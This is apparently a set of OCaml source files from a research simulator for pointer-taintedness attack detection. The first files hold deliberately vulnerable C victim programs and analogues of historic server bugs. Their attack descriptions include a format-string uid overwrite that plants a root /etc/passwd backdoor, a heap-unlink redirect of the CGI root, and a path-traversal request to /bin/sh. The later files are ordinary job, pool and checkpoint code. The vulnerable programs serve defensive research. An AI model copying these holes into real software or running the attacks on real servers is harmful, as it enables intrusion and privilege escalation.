  puts("root shell: executing /bin/sh");
  exec("/bin/sh");
  exit(99);
}

void greet(void) {
  puts("hello from the configured handler");
}

void dispatch(void) {
  void (*handler)(void);
  char buf[16];
  handler = greet;
  gets(buf);
  handler();
}

int main(void) {
  dispatch();
  puts("dispatch returned");
  return 0;
}
|}

let exp4_buffer_to_fnptr = 16

let fn_integer_overflow =
  {|
/* Table 4 (A): integer overflow defeating an upper-bound-only check.
   The comparison launders the taintedness of i (Table 1 rule 4), so
   the negative-index store that corrupts `admin` raises no alert. */

int admin = 0;
int array[100];

int main(void) {
  unsigned ui = 0;
  int i;
  read(0, (char *)&ui, 4);
  i = ui;
  if (i < 100) {                /* flawed: no lower bound */
    array[i] = 1;
    puts("index stored");
  } else {
    puts("index rejected");
  }
  if (admin) puts("ADMIN MODE ENABLED");
  return 0;
}
|}

let fn_auth_flag =
  {|
/* Table 4 (B): overflow of a password buffer into the adjacent
   authentication flag.  No pointer is tainted; detection misses. */

int do_auth(char *pw) {
  return strcmp(pw, "secret") == 0;
}

void serve(void) {
  int auth;
  char pw[16];
  auth = 0;
  gets(pw);
  if (do_auth(pw)) auth = 1;
  if (auth) puts("ACCESS GRANTED");
  else puts("ACCESS DENIED");
}

int main(void) {
  serve();
  return 0;
}
|}

let fn_auth_overflow_len = 20

let fn_auth_flag_guarded =
  {|
/* Table 4 (B) hardened with the section 5.3 extension: the programmer
   annotates the authentication flag as never-tainted, so the same
   overflow that silently granted access now raises an alert the
   moment a tainted byte lands on it. */

int do_auth(char *pw) {
  return strcmp(pw, "secret") == 0;
}

void serve(void) {
  int auth;
  char pw[16];
  auth = 0;
  guard((char *)&auth, 4);
  gets(pw);
  if (do_auth(pw)) auth = 1;
  if (auth) puts("ACCESS GRANTED");
  else puts("ACCESS DENIED");
  unguard((char *)&auth);
}

int main(void) {
  serve();
  return 0;
}
|}

let fn_info_leak =
  {|
/* Table 4 (C): format-string information leak.  %x reads march the
   argument pointer over the stack and print it — including the
   secret one word below the buffer — without ever dereferencing a
   tainted word, so nothing fires.  A %n in the same spot does. */

void leak(int s) {
  char buf[100];
  int secret_key;
  secret_key = 0x12345678;
  memset(buf, 0, 100);
  recv(s, buf, 100, 0);
  fdprintf(s, buf);
  if (secret_key) return;
}

int main(void) {
  int ls = socket();
  int c = accept(ls);
  if (c >= 0) leak(c);
  return 0;
}
|}

let fn_info_leak_secret = 0x12345678
