(** NULL HTTPD analogue: heap overflow via a negative Content-Length
    (securityfocus bid 5774).

    A POST with Content-Length -800 makes the server allocate
    1024-800 = 224 body bytes; the body it then receives is larger and
    rewrites the free chunk behind the allocation.  [free] unlinks the
    corrupted chunk: [FD->bk = BK] becomes an attacker
    write-anything-anywhere, used here (as in the paper) to repoint
    the CGI-BIN configuration at "/bin" rather than to smash control
    data.  The detector fires on the store through the tainted FD. *)

val source : string

val cgi_root_symbol : string
(** The [char *cgi_root] global the non-control attack overwrites. *)

val default_cgi_root : string
val body_alloc_slack : int
(** The 1024 bytes the server adds to Content-Length when sizing the
    body buffer. *)

val get_cgi : string -> string
(** [get_cgi "sh"] builds the follow-up request that runs a CGI
    program named [sh] — [/bin/sh] once [cgi_root] is corrupted. *)

val post_request : content_length:int -> body:string -> string list
(** Messages for one POST session: the header block, then the body. *)
