let cgi_root_symbol = "cgi_root"
let default_cgi_root = "/usr/local/httpd/cgi-bin"
let body_alloc_slack = 1024

let source =
  {|
/* A NULL-HTTPD-shaped server.  The POST path sizes its body buffer as
   Content-Length + 1024 without rejecting negative lengths (the
   bid-5774 bug) and then receives the real body into it. */

char *cgi_root = "/usr/local/httpd/cgi-bin";

void http_error(int s, char *msg) {
  fdprintf(s, "HTTP/1.0 %s\r\n\r\n", msg);
}

void run_cgi(int s, char *prog) {
  char full[256];
  sprintf(full, "%s/%s", cgi_root, prog);
  exec(full);
  fdprintf(s, "HTTP/1.0 200 OK\r\n\r\ncgi output\r\n");
}

void handle_get(int s, char *path) {
  if (strncmp(path, "/cgi-bin/", 9) == 0) {
    run_cgi(s, path + 9);
    return;
  }
  fdprintf(s, "HTTP/1.0 200 OK\r\n\r\nstatic content\r\n");
}

void handle_post(int s, int content_length) {
  /* BUG: negative Content-Length shrinks the allocation */
  char *body = calloc(content_length + 1024, 1);
  if (!body) {
    http_error(s, "500 Internal Server Error");
    return;
  }
  int got = 0;
  int r;
  while ((r = recv(s, body + got, 512, 0)) > 0) {
    got += r;                     /* actual body size, unbounded */
  }
  fdprintf(s, "HTTP/1.0 200 OK\r\n\r\nreceived %d bytes\r\n", got);
  free(body);                     /* unlink of the corrupted neighbour */
}

int main(void) {
  char line[512];
  int ls = socket();
  int c;
  while ((c = accept(ls)) >= 0) {
    if (readline(c, line, 512) <= 0) {
      close(c);
      continue;
    }
    if (strncmp(line, "GET ", 4) == 0) {
      char *path = line + 4;
      char *space = strchr(path, ' ');
      if (space) *space = 0;
      handle_get(c, path);
    } else if (strncmp(line, "POST ", 5) == 0) {
      int content_length = 0;
      while (readline(c, line, 512) > 0) {
        if (line[0] == '\r' || line[0] == 0) break;   /* end of headers */
        if (strncmp(line, "Content-Length: ", 16) == 0) {
          content_length = atoi(line + 16);
        }
      }
      handle_post(c, content_length);
    } else {
      http_error(c, "400 Bad Request");
    }
    close(c);
  }
  return 0;
}
|}

let get_cgi prog = "GET /cgi-bin/" ^ prog ^ " HTTP/1.0\n"

let post_request ~content_length ~body =
  [ Printf.sprintf "POST /upload HTTP/1.0\nContent-Length: %d\n\r\n" content_length; body ]
