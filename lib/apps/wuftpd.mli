(** WU-FTPD analogue: an FTP server with the SITE EXEC format-string
    vulnerability (securityfocus bid 1387).

    The non-control-data attack of Table 2 overwrites the logged-in
    user's uid word via [%hhn] writes, then uploads a replacement
    /etc/passwd with root-only [STOR].  No control data is touched, so
    control-flow-integrity baselines see nothing; the pointer
    taintedness detector fires at the first store through the tainted
    target address inside [vformat]. *)

val source : string

val uid_symbol : string
(** Global holding the authenticated user's uid — the attack target
    (the paper's 0x1002bc20 word). *)

val banner : string
val login_session : string list
(** USER/PASS prefix every session starts with (user1 / xxxxxxx). *)

val site_exec : string -> string
(** Build a [site exec] command line. *)

val stor_passwd : string
(** The follow-up command that rewrites /etc/passwd with a root
    backdoor ("alice" with uid 0), permitted only when uid = 0. *)

val passwd_path : string
val backdoor_line : string
