(** The synthetic vulnerable programs of Figure 2 (exp1/exp2/exp3),
    a function-pointer variant, and the Table 4 false-negative
    victims.  Each value is Mini-C source compiled onto the guest by
    the experiments; the companion helpers document the frame/heap
    layout facts the attack payloads rely on. *)

val exp1 : string
(** Stack buffer overflow: [char buf[10]; gets(buf);] — overflowing
    input taints the saved frame pointer and return address; the
    detector fires at the function's [jr $ra]. *)

val exp1_buffer_to_ra : int
(** Bytes from the start of [buf] to the saved return address. *)

val exp1_buffer_to_fp : int
val root_shell_symbol : string
(** Name of the ret2libc target function exp1's payload can jump to
    under [No_protection]. *)

val exp2 : string
(** Heap corruption: an 8-byte [malloc] allocation overflowed into the
    free chunk behind it; [free]'s forward-coalescing unlink then
    stores through the corrupted (tainted) [fd] pointer. *)

val exp2_user_to_next_header : int
(** Bytes from the returned buffer to the next chunk's size field. *)

val exp3 : string
(** Format string: [recv(s, buf, 100, 0); printf(buf);] with the
    argument pointer starting three words below [buf], so the paper's
    exact payload [abcd%x%x%x%n] dereferences 0x64636261. *)

val exp4_fnptr : string
(** Control-data variant: overflow into an adjacent function pointer,
    caught at the indirect call ([jalr]) — detectable by both the
    control-data-only baseline and pointer taintedness. *)

val exp4_buffer_to_fnptr : int

(** {1 Table 4 false-negative scenarios} *)

val fn_integer_overflow : string
(** (A): unsigned input assigned to a signed index, upper-bound check
    only.  The bounds check launders the taint, so the negative-index
    write to [admin] is not detected. *)

val fn_auth_flag : string
(** (B): buffer overflow corrupting an adjacent authentication flag —
    no pointer is tainted, no detection. *)

val fn_auth_overflow_len : int
(** Overflow length that sets the flag without touching the frame. *)

val fn_auth_flag_guarded : string
(** The same program hardened with the section 5.3 annotation
    extension ([guard(&auth, 4)]): the overflow is now detected. *)

val fn_info_leak : string
(** (C): format-string read ([%x%x%x%x]) leaking a stack secret —
    no tainted dereference, not detected; the [%n] variant is. *)

val fn_info_leak_secret : int
(** The secret value planted on the stack by {!fn_info_leak}. *)
