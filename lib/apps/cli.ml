let login_buffer_to_ra = 36
let logd_conf_path = "/etc/logd.conf"

let login =
  {|
/* A login-style tool: copies $HOME into a fixed stack buffer before
   switching to the user.  Command line and environment are external
   input (section 4.4), so an oversized HOME taints the saved frame
   pointer and return address.

   root_shell sits after the other functions: a ret2libc-style payload
   needs a target address free of NUL bytes, and the first 0x100 bytes
   of text have a zero second byte — the same constraint real exploits
   navigate. */

void print_motd(void) {
  puts("+----------------------------------+");
  puts("| welcome to ptaint-login          |");
  puts("+----------------------------------+");
}

int valid_shell(char *sh) {
  if (strcmp(sh, "/bin/bash") == 0) return 1;
  if (strcmp(sh, "/bin/sh") == 0) return 1;
  if (strcmp(sh, "/bin/csh") == 0) return 1;
  return 0;
}

void init_session(void) {
  char homedir[32];
  char *home = getenv("HOME");
  if (!home) {
    puts("no HOME set");
    return;
  }
  strcpy(homedir, home);          /* unchecked environment copy */
  printf("home directory: %s\n", homedir);
  char *shell = getenv("SHELL");
  if (shell && !valid_shell(shell)) {
    printf("unusual shell: %s\n", shell);
  }
}

int main(void) {
  print_motd();
  init_session();
  puts("session initialised");
  return 0;
}

void root_shell(void) {
  puts("root shell: executing /bin/sh");
  exec("/bin/sh");
  exit(99);
}
|}

let logd =
  {|
/* A syslog-style daemon: reads its prefix template from a config
   file and formats log lines with it.  The template string comes
   from the file system — tainted input — so a poisoned config turns
   the printf into a write primitive. */

char template[128];

void log_event(char *event) {
  char line[128];
  char fmt[128];
  strcpy(fmt, template);          /* working copy on the stack */
  /* VULNERABLE: config-supplied template used as the format */
  sprintf(line, fmt, event);
  puts(line);
}

int main(void) {
  int fd = open("/etc/logd.conf", 0);
  if (fd < 0) {
    puts("logd: no config");
    return 1;
  }
  readline(fd, template, 128);
  close(fd);
  log_event("startup");
  log_event("heartbeat");
  puts("logd: done");
  return 0;
}
|}
