(** GHTTPD analogue: stack buffer overflow in the request-logging path
    (securityfocus bid 5960).

    The non-control-data attack corrupts the [url] pointer — a local
    sitting between the 200-byte log buffer and the frame pointer —
    {e after} the "/.." security policy has been checked, redirecting
    it to a second request fragment that names
    [/cgi-bin/../../../../bin/sh].  Control data is never touched; the
    detector fires on the first load-byte through the tainted URL
    pointer. *)

val source : string

val request_buffer_symbol : string option
(** None: the request lives on the stack (its address is what the
    payload plants, like the paper's 0x7fff3e94). *)

val log_buffer_bytes : int
(** Size of the vulnerable log-line buffer (200, as in the paper). *)

val overflow_to_url : int
(** Bytes from the log buffer to the [url] pointer local. *)

val cgi_prefix : string
val attack_tail : string
(** The second fragment the corrupted pointer is aimed at. *)
