(** Victims exercising the remaining taint sources of section 4.4:
    environment variables and the file system. *)

val login : string
(** A login-style utility that [strcpy]s $HOME into a 32-byte stack
    buffer (the classic setuid-binary environment overflow).  A long
    HOME reaches the saved frame pointer and return address. *)

val login_buffer_to_ra : int

val logd : string
(** A log daemon that formats a line from /etc/logd.conf with the
    config value used as the format string — file contents are
    external input too, and a poisoned config mounts the same [%n]
    attack as a network format string. *)

val logd_conf_path : string
