(** The unified description of one detection job.

    Every front end — the one-shot CLI, the batch runner, the
    experiment matrices and the ptaintd daemon protocol — builds this
    same record and submits it to the campaign engine
    ({!Campaign.run_jobs}, {!Campaign.run_job}), so a job means the
    same thing whether it arrives on a command line, in a batch, or
    over a socket.

    The payload stays symbolic (source text, or a pre-assembled
    program for in-process callers): that is what lets the daemon key
    its content-hash cache on the program bytes and lets the batch
    runner share one boot-snapshot template across identical images. *)

type payload =
  | Asm_source of string  (** SIMIPS assembly, assembled on demand *)
  | C_source of string  (** Mini-C, compiled against the guest libc *)
  | Image of Ptaint_asm.Program.t  (** pre-assembled, in-process only *)

type t = {
  tag : string;  (** job name, echoed through results and reports *)
  payload : payload;
  config : Ptaint_sim.Sim.config;
  policy_label : string option;
      (** bucket for detection counts; derived from [config.policy]
          when absent *)
  injections : Ptaint_fi.Fi.injection list;
      (** fault plan, applied by {!Ptaint_fi.Fi.run_plan} *)
  timeout : float option;
      (** per-job wall-clock watchdog (seconds); overrides the
          campaign-wide default *)
  expect : (Ptaint_sim.Sim.result -> string option) option;
      (** local-only result expectation — not carried on the wire *)
  trace : (int * int) option;
      (** correlation id: (client-seeded 63-bit trace id, per-job
          span id), echoed through results, JSONL sinks, log lines
          and Chrome spans *)
}

val make :
  tag:string ->
  ?config:Ptaint_sim.Sim.config ->
  ?policy_label:string ->
  ?injections:Ptaint_fi.Fi.injection list ->
  ?timeout:float ->
  ?expect:(Ptaint_sim.Sim.result -> string option) ->
  ?trace:int * int ->
  payload ->
  t

val with_config : Ptaint_sim.Sim.config -> t -> t
val with_policy_label : string -> t -> t
val with_injections : Ptaint_fi.Fi.injection list -> t -> t
val with_timeout : float -> t -> t
val with_expect : (Ptaint_sim.Sim.result -> string option) -> t -> t
val with_trace : int * int -> t -> t

val payload_kind : payload -> string
(** ["asm"], ["c"], ["image"]. *)

val program : t -> Ptaint_asm.Program.t
(** Build the guest program: assemble, compile, or return the image.
    Raises the toolchain's typed errors
    ({!Ptaint_asm.Assembler.Asm_error}, {!Ptaint_cc.Cc.Error}) on
    malformed sources — the campaign engine classifies them as loader
    failures. *)

val image_key : t -> string
(** Content hash (hex) of everything that shapes the loaded memory
    image: program bytes plus argv/env/sources.  Jobs with equal keys
    can boot from one snapshot template.  [Image] payloads hash by
    physical identity, so their keys are only stable within one
    process. *)
