let recommended_domains () = max 1 (Domain.recommended_domain_count ())

type 'b slot = Value of 'b | Raised of exn * Printexc.raw_backtrace

let mapi ?(domains = recommended_domains ()) f xs =
  let arr = Array.of_list xs in
  let n = Array.length arr in
  if n = 0 then []
  else begin
    let out = Array.make n None in
    let next = Atomic.make 0 in
    let worker () =
      (* Domains inherit the backtrace-recording flag only at spawn on
         some runtimes; force it so a [Raised] slot always carries the
         worker-side frames for [raise_with_backtrace]. *)
      Printexc.record_backtrace true;
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
          let slot =
            match f i arr.(i) with
            | v -> Value v
            | exception e -> Raised (e, Printexc.get_raw_backtrace ())
          in
          out.(i) <- Some slot;
          loop ()
        end
      in
      loop ()
    in
    let helpers = min (max 0 (domains - 1)) (n - 1) in
    let spawned = List.init helpers (fun _ -> Domain.spawn worker) in
    worker ();
    List.iter Domain.join spawned;
    Array.to_list out
    |> List.map (function
         | Some (Value v) -> v
         | Some (Raised (e, bt)) -> Printexc.raise_with_backtrace e bt
         | None -> assert false (* every index < n is claimed exactly once *))
  end

let map ?domains f xs = mapi ?domains (fun _ x -> f x) xs
