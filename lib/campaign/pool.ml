let recommended_domains () = max 1 (Domain.recommended_domain_count ())

type 'b slot = Value of 'b | Raised of exn * Printexc.raw_backtrace

let mapi ?(domains = recommended_domains ()) f xs =
  let arr = Array.of_list xs in
  let n = Array.length arr in
  if n = 0 then []
  else begin
    let out = Array.make n None in
    let next = Atomic.make 0 in
    let worker () =
      (* Domains inherit the backtrace-recording flag only at spawn on
         some runtimes; force it so a [Raised] slot always carries the
         worker-side frames for [raise_with_backtrace]. *)
      Printexc.record_backtrace true;
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
          let slot =
            match f i arr.(i) with
            | v -> Value v
            | exception e -> Raised (e, Printexc.get_raw_backtrace ())
          in
          out.(i) <- Some slot;
          loop ()
        end
      in
      loop ()
    in
    let helpers = min (max 0 (domains - 1)) (n - 1) in
    let spawned = List.init helpers (fun _ -> Domain.spawn worker) in
    worker ();
    List.iter Domain.join spawned;
    Array.to_list out
    |> List.map (function
         | Some (Value v) -> v
         | Some (Raised (e, bt)) -> Printexc.raise_with_backtrace e bt
         | None -> assert false (* every index < n is claimed exactly once *))
  end

let map ?domains f xs = mapi ?domains (fun _ x -> f x) xs

(* --- persistent service pool ---

   [map] spins domains up and down per batch, which is the right shape
   for a one-shot campaign and the wrong one for a long-lived daemon
   taking jobs from many clients.  A [service] keeps a fixed set of
   worker domains alive behind a mutex/condition task queue: [post]
   enqueues a closure, an idle worker picks it up, and [stop] lets the
   queue drain before joining every worker.  Tasks run with exceptions
   contained (a poisoned task can never kill a worker domain); callers
   that care about a task's outcome communicate through the closure. *)

type service = {
  mu : Mutex.t;
  cv : Condition.t;  (* signalled on enqueue and on stop *)
  tasks : (unit -> unit) Queue.t;
  mutable active : int;  (* tasks currently executing *)
  mutable stopping : bool;  (* no new posts; workers exit once drained *)
  mutable workers : unit Domain.t list;
  size : int;
}

let service_worker s () =
  Printexc.record_backtrace true;
  let rec loop () =
    Mutex.lock s.mu;
    let rec next () =
      if not (Queue.is_empty s.tasks) then begin
        let t = Queue.pop s.tasks in
        s.active <- s.active + 1;
        Mutex.unlock s.mu;
        (try t () with _ -> ());
        Mutex.lock s.mu;
        s.active <- s.active - 1;
        (* wake [stop]/[quiesce] waiters watching for the drain *)
        Condition.broadcast s.cv;
        Mutex.unlock s.mu;
        loop ()
      end
      else if s.stopping then Mutex.unlock s.mu
      else begin
        Condition.wait s.cv s.mu;
        next ()
      end
    in
    next ()
  in
  loop ()

let service ?(domains = recommended_domains ()) () =
  let s =
    { mu = Mutex.create ();
      cv = Condition.create ();
      tasks = Queue.create ();
      active = 0;
      stopping = false;
      workers = [];
      size = max 1 domains }
  in
  s.workers <- List.init s.size (fun _ -> Domain.spawn (service_worker s));
  s

let service_size s = s.size

let post s task =
  Mutex.lock s.mu;
  if s.stopping then begin
    Mutex.unlock s.mu;
    invalid_arg "Pool.post: service is stopped"
  end;
  Queue.push task s.tasks;
  Condition.signal s.cv;
  Mutex.unlock s.mu

let in_flight s =
  Mutex.lock s.mu;
  let n = Queue.length s.tasks + s.active in
  Mutex.unlock s.mu;
  n

let quiesce s =
  Mutex.lock s.mu;
  while not (Queue.is_empty s.tasks && s.active = 0) do
    Condition.wait s.cv s.mu
  done;
  Mutex.unlock s.mu

let stop s =
  Mutex.lock s.mu;
  s.stopping <- true;
  Condition.broadcast s.cv;
  Mutex.unlock s.mu;
  List.iter Domain.join s.workers;
  s.workers <- []
