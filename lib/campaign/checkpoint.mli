(** Campaign checkpoint manifests.

    A streaming campaign ({!Campaign.run_stream}) periodically saves a
    manifest — campaign identity, job cursor, and the merged
    {!Campaign.tally_dump} — so a killed run can restart where it left
    off.  The on-disk format is plain tab-separated text: every dump
    field is an int or a label string, so a save/load round trip is
    exact and a resumed campaign's final metrics table is
    byte-identical to an uninterrupted run's. *)

type manifest = {
  id : string;
      (** Campaign identity (e.g. ["gen:seed=42:jobs=500:variants=8"]).
          Resume refuses a manifest whose [id] does not match the
          requested campaign, since folding counters from a different
          job stream would corrupt the tally silently. *)
  total : int;  (** Total jobs in the campaign. *)
  cursor : int;  (** Jobs [0, cursor) are already folded into [dump]. *)
  elapsed_us : int;
      (** Cumulative wall time (microseconds) spent across every prior
          run of this campaign — what lets a resumed run report
          end-to-end throughput and ETA rather than restarting the
          clock.  Accepted-if-absent on read: manifests written before
          the field existed load as [0]. *)
  dump : Campaign.tally_dump;
}

exception Checkpoint_write_error of { path : string; reason : string }
(** A checkpoint could not be persisted (disk full, permission,
    unwritable directory).  The temp file has been removed and the
    previous manifest at [path] — if any — is intact, so the caller
    can log and keep running; only checkpoint freshness was lost. *)

(** [save ~path m] writes [m] atomically and durably: the manifest is
    rendered to a temporary file in [path]'s directory, fsync'd, and
    renamed over [path] (followed by a best-effort directory fsync),
    so a crash mid-checkpoint leaves either the previous manifest or
    the new one, never a torn or unflushed file.  Raises
    {!Checkpoint_write_error} — not a raw [Sys_error] — on failure. *)
val save : path:string -> manifest -> unit

(** [load ~path] parses a manifest written by {!save}.  Returns
    [Error _] for unreadable files, unknown keys, bad integers, or a
    missing [end] sentinel (a torn write on a non-atomic filesystem). *)
val load : path:string -> (manifest, string) result

(** [truncate_jsonl ~path ~lines] trims the JSONL result sink at [path]
    back to exactly [lines] lines, for resuming a campaign whose sink
    ran ahead of its last manifest (jobs completed and flushed after
    the final checkpoint).  [lines = 0] removes the file if present.
    Returns [Error _] if the sink holds fewer than [lines] lines —
    then the sink and manifest disagree and resuming would silently
    drop results. *)
val truncate_jsonl : path:string -> lines:int -> (unit, string) result
