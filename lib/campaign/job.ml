(* The one description of a detection job every front end submits:
   the one-shot CLI, the batch runner, the experiment matrices and the
   ptaintd wire protocol all build this record and hand it to the
   campaign engine.  Keeping the payload symbolic (source text or a
   pre-assembled program) is what lets the daemon key its content-hash
   cache and lets the batch runner share snapshot templates. *)

type payload =
  | Asm_source of string
  | C_source of string
  | Image of Ptaint_asm.Program.t

type t = {
  tag : string;
  payload : payload;
  config : Ptaint_sim.Sim.config;
  policy_label : string option;
  injections : Ptaint_fi.Fi.injection list;
  timeout : float option;
  expect : (Ptaint_sim.Sim.result -> string option) option;
  trace : (int * int) option;
}

let make ~tag ?(config = Ptaint_sim.Sim.default_config) ?policy_label
    ?(injections = []) ?timeout ?expect ?trace payload =
  { tag; payload; config; policy_label; injections; timeout; expect; trace }

let with_config config t = { t with config }
let with_policy_label label t = { t with policy_label = Some label }
let with_injections injections t = { t with injections }
let with_timeout seconds t = { t with timeout = Some seconds }
let with_expect expect t = { t with expect = Some expect }
let with_trace trace t = { t with trace = Some trace }

let payload_kind = function
  | Asm_source _ -> "asm"
  | C_source _ -> "c"
  | Image _ -> "image"

let program t =
  match t.payload with
  | Image p -> p
  | Asm_source s -> Ptaint_asm.Assembler.assemble_exn s
  | C_source s -> Ptaint_runtime.Runtime.compile s

(* Content-hash key of everything that shapes the loaded memory
   image: the program bytes plus the loader inputs (argv/env/sources
   decide the initial stack and its taint).  Two jobs with equal keys
   can boot from one snapshot template; policy, stdin, sessions, fuel
   and timing may all differ.  [Image] payloads fall back to physical
   identity (no stable content serialization for built programs), so
   their keys are only equal within one process — exactly the
   template-sharing case. *)
let image_key t =
  let c = t.config in
  let b = Buffer.create 256 in
  (match t.payload with
   | Asm_source s -> Buffer.add_string b "asm\x00"; Buffer.add_string b s
   | C_source s -> Buffer.add_string b "c\x00"; Buffer.add_string b s
   | Image p ->
     Buffer.add_string b "image\x00";
     Buffer.add_string b (string_of_int (Hashtbl.hash (Obj.repr p))));
  Buffer.add_char b '\x00';
  List.iter (fun a -> Buffer.add_string b a; Buffer.add_char b '\x00') c.Ptaint_sim.Sim.argv;
  Buffer.add_char b '\x00';
  List.iter
    (fun (k, v) ->
      Buffer.add_string b k; Buffer.add_char b '='; Buffer.add_string b v;
      Buffer.add_char b '\x00')
    c.Ptaint_sim.Sim.env;
  let s = c.Ptaint_sim.Sim.sources in
  List.iter
    (fun flag -> Buffer.add_char b (if flag then '1' else '0'))
    [ s.Ptaint_os.Sources.network; s.Ptaint_os.Sources.file; s.Ptaint_os.Sources.stdin;
      s.Ptaint_os.Sources.args; s.Ptaint_os.Sources.env ];
  Digest.to_hex (Digest.string (Buffer.contents b))
