module Pool = Ptaint_pool.Pool

(* A job built from a (config, program) pair keeps both visible so
   the campaign can share one loaded image (a Sim snapshot template)
   across every job running that image; opaque thunks always run
   as-is.  [Spec] is the unified {!Job.t} path every front end (CLI,
   batch runner, experiments, ptaintd) funnels through — it may carry
   a program pre-built by the submitting domain so the template
   sharing still applies. *)
type work =
  | Sim_run of Ptaint_sim.Sim.config * Ptaint_asm.Program.t
  | Spec of Job.t * Ptaint_asm.Program.t option
  | Thunk of (unit -> Ptaint_sim.Sim.result)

type job = {
  j_name : string;
  j_policy_label : string;
  j_expect : (Ptaint_sim.Sim.result -> string option) option;
  j_work : work;
  j_trace : (int * int) option;
}

let label_of_policy (p : Ptaint_cpu.Policy.t) =
  match p.Ptaint_cpu.Policy.mode with
  | Ptaint_cpu.Policy.No_protection -> "no protection"
  | Ptaint_cpu.Policy.Control_data_only -> "control-data only"
  | Ptaint_cpu.Policy.Pointer_taintedness -> "pointer taintedness"

let job ~name ?policy_label ?expect ~config program =
  { j_name = name;
    j_policy_label =
      (match policy_label with
       | Some l -> l
       | None -> label_of_policy config.Ptaint_sim.Sim.policy);
    j_expect = expect;
    j_work = Sim_run (config, program);
    j_trace = None }

let job_thunk ~name ?(policy_label = "unlabelled") ?expect thunk =
  { j_name = name; j_policy_label = policy_label; j_expect = expect; j_work = Thunk thunk;
    j_trace = None }

let job_label (spec : Job.t) =
  match spec.Job.policy_label with
  | Some l -> l
  | None -> label_of_policy spec.Job.config.Ptaint_sim.Sim.policy

(* [program] pre-builds on the submitting domain when available so
   identical images share one snapshot template; [None] defers the
   (re)build to the worker, where a toolchain failure is contained
   and classified. *)
let of_job ?program (spec : Job.t) =
  { j_name = spec.Job.tag;
    j_policy_label = job_label spec;
    j_expect = spec.Job.expect;
    j_work = Spec (spec, program);
    j_trace = spec.Job.trace }

let job_name j = j.j_name

(* --- typed failure taxonomy ---

   A job that does not produce a simulation result fails for one of
   four reasons, and the campaign must be able to tell them apart
   without string matching: a watchdog timeout is an experiment
   parameter, a guest fault is a property of the guest under test, a
   loader error is a malformed input, and only the remainder is an
   actual crash of the harness (the sole transient kind worth
   retrying). *)

type failure_kind =
  | Timeout of { seconds : float }
  | Guest_fault of { sysnum : int; pc : int; args : int list }
  | Loader_error of { where : string; message : string }
  | Crashed

type failure = { kind : failure_kind; exn : string; backtrace : string }

type status =
  | Finished of Ptaint_sim.Sim.result
  | Failed of failure

let kind_name = function
  | Timeout _ -> "timeout"
  | Guest_fault _ -> "guest fault"
  | Loader_error _ -> "loader error"
  | Crashed -> "crashed"

let classify ~job_timeout = function
  | Ptaint_sim.Sim.Timeout _ ->
    Timeout { seconds = Option.value ~default:0. job_timeout }
  | Ptaint_os.Kernel.Guest_fault { sysnum; pc; args } -> Guest_fault { sysnum; pc; args }
  | Ptaint_asm.Loader.Error { where; message } -> Loader_error { where; message }
  | Ptaint_asm.Assembler.Asm_error { line; message } ->
    Loader_error { where = Printf.sprintf "line %d" line; message }
  | Ptaint_cc.Cc.Error { line; message; phase } ->
    Loader_error { where = Printf.sprintf "%s, line %d" phase line; message }
  | _ -> Crashed

type timing = { started : float; finished : float; domain : int }

type job_result = {
  name : string;
  policy_label : string;
  status : status;
  violation : string option;
  attempts : int;
  timing : timing;
  trace : (int * int) option;
}

let result_exn r =
  match r.status with
  | Finished result -> result
  | Failed f ->
    invalid_arg
      (Printf.sprintf "job %s failed (%s) after %d attempt(s): %s\n%s" r.name
         (kind_name f.kind) r.attempts f.exn f.backtrace)

type stats = {
  jobs : int;
  failed : int;
  violations : int;
  wall_seconds : float;
  instructions : int;
  syscalls : int;
  detections : (string * int) list;
  metrics : (string * Ptaint_obs.Metrics.t) list;
}

(* run_sim is the template-sharing closure [run] builds; [deadline]
   arms the cooperative watchdog inside the fuel-sliced engine.  A
   {!Job.t}'s own [timeout] overrides the campaign-wide default, for
   both the deadline and the reported [Timeout { seconds }]. *)
let exec ~job_timeout ~retries ~backoff run_sim j =
  let job_timeout =
    match j.j_work with
    | Spec ({ Job.timeout = Some t; _ }, _) -> Some t
    | _ -> job_timeout
  in
  let started = Unix.gettimeofday () in
  let close ~attempts status violation =
    { name = j.j_name;
      policy_label = j.j_policy_label;
      status;
      violation;
      attempts;
      timing =
        { started;
          finished = Unix.gettimeofday ();
          domain = (Domain.self () :> int) };
      trace = j.j_trace }
  in
  let attempt () =
    (* The deadline is absolute wall-clock, re-derived per attempt so a
       retried job gets its full budget back. *)
    let deadline = Option.map (fun t -> Unix.gettimeofday () +. t) job_timeout in
    match j.j_work with
    | Sim_run (config, program) -> run_sim ~deadline config program
    | Spec (spec, pre) -> (
      let program = match pre with Some p -> p | None -> Job.program spec in
      match spec.Job.injections with
      | [] -> run_sim ~deadline spec.Job.config program
      | plan ->
        (Ptaint_fi.Fi.run_plan ~config:spec.Job.config ?deadline ~plan program)
          .Ptaint_fi.Fi.result)
    | Thunk f -> f ()
  in
  let rec go attempts =
    match attempt () with
    | result ->
      (* A broken expectation function must not bring the job (let
         alone the pool) down: its exception is the violation. *)
      let violation =
        match j.j_expect with
        | None -> None
        | Some f -> (
          try f result with e -> Some ("expect raised: " ^ Printexc.to_string e))
      in
      close ~attempts (Finished result) violation
    | exception e ->
      let bt = Printexc.get_raw_backtrace () in
      let kind = classify ~job_timeout e in
      (* Only genuine crashes are plausibly transient; timeouts, guest
         faults and loader errors are deterministic properties of the
         job and retrying them just burns the budget. *)
      (match kind with
       | Crashed when attempts <= retries ->
         if backoff > 0. then Unix.sleepf (backoff *. float_of_int (1 lsl (attempts - 1)));
         go (attempts + 1)
       | _ ->
         close ~attempts
           (Failed
              { kind;
                exn = Printexc.to_string e;
                backtrace = Printexc.raw_backtrace_to_string bt })
           None)
  in
  go 1

(* The deterministic counter deltas one job contributes to its policy
   label's registry, in registration order.  This is the unit the
   daemon streams per finished job: a client merging these deltas in
   submission order rebuilds byte-identical per-label registries,
   because {!metrics_of} below is defined as exactly that merge. *)
let kind_counter = function
  | Timeout _ -> "timeouts"
  | Guest_fault _ -> "guest faults"
  | Loader_error _ -> "loader errors"
  | Crashed -> "crashed"

(* The counter deltas a failed job contributes, independent of any
   job_result — what a supervisor synthesizing a typed failure for a
   job it had to kill (dead worker, blown deadline, exhausted
   redeliveries) must emit to keep parity with the cooperative path. *)
let failure_counters kind = [ ("jobs", 1); (kind_counter kind, 1) ]

let job_counters r =
  [ ("jobs", 1) ]
  @ (if r.attempts > 1 then [ ("retries", r.attempts - 1) ] else [])
  @
  match r.status with
  | Failed f -> [ (kind_counter f.kind, 1) ]
  | Finished res ->
